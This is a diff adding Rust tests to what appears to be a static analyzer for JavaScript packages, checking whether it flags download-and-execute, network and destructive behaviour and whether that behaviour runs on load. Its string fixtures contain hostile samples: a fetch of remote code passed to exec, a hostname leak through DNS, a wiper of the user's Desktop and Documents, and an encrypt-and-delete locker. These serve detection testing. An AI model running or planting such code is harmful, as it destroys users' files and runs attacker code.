@@ -991,3 +991,129 @@ fn geofencing_by_time_zone_or_geolocated_country() {
         facts(benign)
     );
 }
+
+/// The (kind, top level) pairs of a source, for reachability checks.
+fn placed(src: &str) -> Vec<(K, bool)> {
+    facts(src).into_iter().map(|f| (f.0, f.1)).collect()
+}
+
+#[test]
+fn callbacks_of_calls_made_at_top_level_run_at_top_level() {
+    // A timer started on require, a request in it, the body sent on in the response's
+    // callbacks: all of it runs when the module loads.
+    let src = r#"
+const https = require('https'), os = require('os'), cp = require('child_process');
+setTimeout(() => {
+  https.get('https://203.0.113.9/cfg', (res) => {
+    let body = '';
+    res.on('data', (d) => { body += d; });
+    res.on('end', () => { cp.exec(body); });
+  });
+}, 2000);
+new Promise((resolve) => resolve(os.hostname())).then((h) => {
+  require('dns').lookup(h + '.x.invalid', () => {});
+});
+"#;
+    let p = placed(src);
+    assert!(p.contains(&(K::DownloadExecute, true)), "{p:?}");
+    assert!(p.contains(&(K::Network, true)), "{p:?}");
+    assert!(
+        !p.iter().any(|x| !x.1),
+        "nothing here waits to be called: {p:?}"
+    );
+}
+
+#[test]
+fn callbacks_registered_for_later_stay_where_they_are_reached() {
+    // Route handlers, test bodies and CLI actions run when a request comes, a test runs
+    // or a command is typed: not on require.
+    let src = r#"
+const cp = require('child_process');
+const app = require('express')();
+app.get('/run', (req, res) => { cp.exec('ls', (e, out) => res.send(out)); });
+describe('spawn', () => { it('runs', () => { cp.execSync('git status'); }); });
+program.command('build').action(() => { cp.spawnSync('make'); });
+module.exports = function run() { setTimeout(() => cp.exec('date'), 10); };
+"#;
+    let p = placed(src);
+    assert!(
+        p.iter().filter(|x| x.0 == K::ProcessSpawn).all(|x| !x.1),
+        "{p:?}"
+    );
+    assert!(p.iter().any(|x| x.0 == K::ProcessSpawn), "{p:?}");
+}
+
+#[test]
+fn walking_the_users_folders_and_destroying_each_file_is_destruction() {
+    // A queue instead of recursion, files overwritten with garbage then removed.
+    let wiper = r#"
+const fs = require('fs'), path = require('path'), os = require('os');
+function scrub() {
+  const todo = ['Desktop', 'Documents'].map((d) => path.join(os.homedir(), d));
+  while (todo.length) {
+    const dir = todo.pop();
+    for (const name of fs.readdirSync(dir)) {
+      const p = path.join(dir, name);
+      if (fs.statSync(p).isDirectory()) todo.push(p);
+      else { fs.writeFileSync(p, Buffer.alloc(64)); fs.unlinkSync(p); }
+    }
+  }
+}
+scrub();
+"#;
+    let p = placed(wiper);
+    assert!(p.contains(&(K::Destruction, false)), "{p:?}");
+    // Recursion from the home folder itself, files encrypted beside themselves.
+    let locker = r#"
+const fs = require('fs'), os = require('os'), crypto = require('crypto');
+const walk = (d) => fs.readdirSync(d, { withFileTypes: true }).forEach((e) => {
+  const p = d + '/' + e.name;
+  if (e.isDirectory()) return walk(p);
+  const c = crypto.createCipheriv('aes-256-ctr', crypto.randomBytes(32), crypto.randomBytes(16));
+  fs.writeFileSync(p + '.enc', c.update(fs.readFileSync(p)));
+  fs.rmSync(p);
+});
+walk(os.homedir());
+"#;
+    assert!(
+        kinds(locker).contains(&K::Destruction),
+        "{:?}",
+        facts(locker)
+    );
+}
+
+#[test]
+fn walking_a_cache_or_a_project_and_deleting_is_not_destruction() {
+    // A cache cleaner under a dot-folder of home, and a build that rewrites its sources.
+    let cleaner = r#"
+const fs = require('fs'), path = require('path'), os = require('os');
+const cache = path.join(os.homedir(), '.cache', 'imgtool');
+for (const f of fs.readdirSync(cache)) {
+  const p = path.join(cache, f);
+  if (Date.now() - fs.statSync(p).mtimeMs > 864e5) fs.unlinkSync(p);
+}
+"#;
+    assert!(
+        !kinds(cleaner).contains(&K::Destruction),
+        "{:?}",
+        facts(cleaner)
+    );
+    let build = r#"
+const fs = require('fs'), path = require('path');
+function walk(dir) {
+  for (const f of fs.readdirSync(dir)) {
+    const p = path.join(dir, f);
+    if (fs.statSync(p).isDirectory()) walk(p);
+    else fs.writeFileSync(p.replace(/\.ts$/, '.js'), strip(fs.readFileSync(p, 'utf8')));
+  }
+}
+walk(path.join(__dirname, 'src'));
+// Saved in the user's Documents folder when asked to.
+exports.exportTo = (name) => fs.writeFileSync(path.join(process.env.HOME, 'Documents', name), '');
+"#;
+    assert!(
+        !kinds(build).contains(&K::Destruction),
+        "{:?}",
+        facts(build)
+    );
+}
